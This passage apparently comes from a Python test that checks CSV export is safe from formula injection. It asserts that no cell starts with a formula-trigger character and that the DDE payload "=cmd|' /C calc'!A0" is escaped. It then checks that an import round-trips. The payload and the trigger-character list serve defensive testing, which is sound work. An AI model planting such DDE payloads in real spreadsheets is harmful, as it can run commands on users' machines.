        cells = [cell for row in csv.reader(handle) for cell in row]
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == [], dangerous
    assert "'=cmd|' /C calc'!A0" in cells and "''Til Dawn shelter" in cells
    async with write_transaction(Service._meta.db):
        await clear_directory()
    report = await import_path(folder)
    assert report.errors == [] and report.written
    assert await snapshot() == before
